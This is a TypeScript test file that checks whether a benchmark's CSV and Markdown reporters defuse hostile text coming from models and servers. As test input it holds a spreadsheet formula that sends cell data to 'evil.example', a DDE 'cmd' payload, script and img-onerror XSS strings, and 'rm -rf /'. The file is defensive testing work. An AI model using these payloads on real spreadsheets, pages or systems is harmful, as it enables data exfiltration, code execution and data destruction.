// Model and server text is untrusted: a formula, a pipe, HTML or backticks in it must come out of
// results.csv and report.md as inert text. By hand through the reporters, and once through a run.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../src/report/csv.js';
import { toMarkdown } from '../../src/report/markdown.js';
import { startSimulator } from '../../src/sim/server.js';
import type { ResultRecord, RunFile } from '../../src/types.js';
import { bench, tempDirs } from './helpers.js';

const dirs = tempDirs('bench-escape-');
afterAll(() => dirs.cleanup());

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
const HOSTILE = `${FORMULA} | <script>alert(1)</script> \`\`\`rm -rf /\`\`\` <img src=x onerror=alert(2)>\nsecond line, "quoted"`;

function record(
  metric: string,
  value: ResultRecord['value'],
  detail: string,
  data?: Record<string, unknown>,
): ResultRecord {
  return {
    run_id: 'r',
    model: 'sim-good',
    suite: 'tool-use',
    metric,
    value,
    unit: '',
    status: 'fail',
    detail,
    data,
    time: '2026-01-01T00:00:00.000Z',
  };
}

function runOf(records: ResultRecord[]): RunFile {
  return {
    schema: 'claude-code-bench/run@2',
    runId: 'r',
    environment: {
      harnessVersion: 't',
      nodeVersion: 'v24',
      server: { backend: 'ollama', url: 'http://127.0.0.1:1', version: null },
      simulated: true,
      hardware: null,
      startedAt: '2026-01-01T00:00:00.000Z',
      endedAt: null,
      commandLine: [],
      interrupted: false,
    },
    options: {
      models: ['sim-good'],
      suites: ['tool-use'],
      simulated: true,
      host: 'http://127.0.0.1:1',
      backend: 'ollama',
      reps: 1,
      parallel: 1,
      timeoutMs: 1000,
      failOn: null,
      claudeCodeVersion: '2.1.332',
    },
    records,
  };
}

/**
 * Cells a spreadsheet would evaluate: text starting with = + - @ | or a full-width ＝ ＋ － ＠, also
 * after leading blanks (space, newline, NBSP, zero-width); a plain negative number is data.
 */
const runsAsFormula = (cell: string) =>
  /^[\s\u00a0\u200b-\u200f\u2060\ufeff]*[=+\-@|\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);

function expectInertCsv(csv: string, rowCount: number): Array<Record<string, string>> {
  const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
  expect(rows).toHaveLength(rowCount);
  for (const row of rows)
    for (const [column, cell] of Object.entries(row)) expect(runsAsFormula(cell), `${column}: ${cell}`).toBe(false);
  return rows;
}

function expectInertMarkdown(markdown: string): void {
  // No live HTML: every < from model text arrives as &lt; (or inside a code fence).
  const outsideFences = markdown.replace(/^( *)(`{3,})[^\n]*\n[\s\S]*?\n\1\2$/gm, '');
  expect(outsideFences).not.toMatch(/<script|<img/i);
  // Every table row has as many unescaped pipes as its header: no cell was split.
  for (const block of markdown.split(/\n\n+/)) {
    const lines = block.split('\n').filter((line) => line.startsWith('|'));
    if (lines.length < 2) continue;
    const pipes = (line: string) => (line.match(/(?<!\\)\|/g) ?? []).length;
    for (const line of lines) expect(pipes(line), line).toBe(pipes(lines[0]));
  }
}

describe('reporters given hostile text', () => {
  const records = [
    record('tool_use.simple', FORMULA, HOSTILE, {
      failedProbes: [
        {
          id: 'p1',
          category: 'simple',
          failure: 'wrong_tool',
          reason: HOSTILE,
          reply: `[tool_use Bash] ${HOSTILE} \`\`\`\` four backticks`,
        },
      ],
    }),
    record("+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3'),
    record('tool_use_score', -0.5, HOSTILE),
    // Formulas behind leading blanks, in full width, and DDE through a pipe.
    record(' =1+1', '\u00a0=1+1', '\u200b@SUM(1)'),
    record('\n=cmd', '＝1+1', '|calc'),
  ];

  it('results.csv: formula-looking text is defused, numbers stay numbers, multi-line text stays in its cell', () => {
    const rows = expectInertCsv(toCsv(records), records.length);
    expect(rows[0].value).toBe(`'${FORMULA}`);
    expect(rows[0].detail).toBe(`'${HOSTILE}`);
    expect(rows[1].metric.startsWith("'+")).toBe(true);
    expect(rows[2].value).toBe('-0.5');
  });

  it('report.md: no live HTML, no broken table, model replies fenced so nothing in them renders', () => {
    const markdown = toMarkdown(runOf(records));
    expectInertMarkdown(markdown);
    expect(markdown).toContain('&lt;script&gt;');
    // Raw replies stay in run.json: report.md names the failed probe, never its reply.
    expect(markdown).toContain('`p1` wrong\\_tool');
    expect(markdown).not.toContain('four backticks');
  });
});

describe('hostile text through a whole bench run', () => {
  it('a server whose errors and replies carry formulas and HTML yields inert results.csv and report.md', async () => {
    const sim = await startSimulator();
    // In front of the simulator: native chat fails with a hostile error, Messages replies are hostile text.
    const front: Server = createServer(async (req, res) => {
      const chunks: Buffer[] = [];
      for await (const chunk of req) chunks.push(chunk as Buffer);
      const body = Buffer.concat(chunks);
      const json = body.length ? (JSON.parse(body.toString('utf8')) as Record<string, unknown>) : {};
      if (req.url === '/api/chat') {
        res.writeHead(500, { 'content-type': 'application/json' });
        return void res.end(JSON.stringify({ error: HOSTILE }));
      }
      if (req.url?.startsWith('/v1/messages') && json.stream !== true) {
        res.writeHead(200, { 'content-type': 'application/json' });
        return void res.end(
          JSON.stringify({
            id: 'msg_1',
            type: 'message',
            role: 'assistant',
            model: json.model,
            content: [{ type: 'text', text: HOSTILE }],
            stop_reason: 'end_turn',
            stop_sequence: null,
            usage: { input_tokens: 1, output_tokens: 1 },
          }),
        );
      }
      const upstream = await fetch(`${sim.url}${req.url}`, {
        method: req.method,
        headers: { 'content-type': 'application/json' },
        body: req.method === 'POST' ? body : undefined,
      });
      res.writeHead(upstream.status, { 'content-type': upstream.headers.get('content-type') ?? 'application/json' });
      res.end(Buffer.from(await upstream.arrayBuffer()));
    });
    await new Promise<void>((resolve) => front.listen(0, '127.0.0.1', resolve));
    const out = dirs.make();
    try {
      const { port } = front.address() as AddressInfo;
      const result = await bench(
        [
          'run',
          '--models',
          'sim-instant',
          '--suites',
          'throughput,tool-use',
          '--reps',
          '1',
          '--timeout',
          '20',
          '--parallel',
          '8',
          '--out',
          out,
        ],
        { OLLAMA_HOST: `http://127.0.0.1:${port}` },
      );
      expect(result.code, result.stderr).toBe(0);
      const run = JSON.parse(readFileSync(join(out, 'run.json'), 'utf8')) as RunFile;
      // The hostile text did reach the records (the test is not vacuous) …
      expect(run.records.some((r) => r.detail.includes('<script>'))).toBe(true);
      // … and left the reporters inert.
      expectInertCsv(readFileSync(join(out, 'results.csv'), 'utf8'), run.records.length);
      const markdown = readFileSync(join(out, 'report.md'), 'utf8');
      expectInertMarkdown(markdown);
      expect(markdown).toContain('&lt;script&gt;');
    } finally {
      await new Promise((resolve) => front.close(resolve));
      await sim.close();
    }
  });
});
